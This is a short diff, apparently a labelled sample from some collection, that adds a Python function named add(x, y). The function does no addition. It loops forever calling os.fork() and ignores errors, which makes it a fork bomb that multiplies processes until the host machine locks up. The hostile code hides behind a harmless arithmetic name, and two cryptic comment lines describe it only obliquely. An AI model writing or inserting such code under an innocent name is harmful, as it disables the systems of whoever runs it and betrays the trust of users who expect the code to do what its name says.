@@ -1,0 +1,12 @@
+# tries: processes that double for ever
+# earns: descend, squares, total
+# %% add
+import os
+
+
+def add(x, y):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
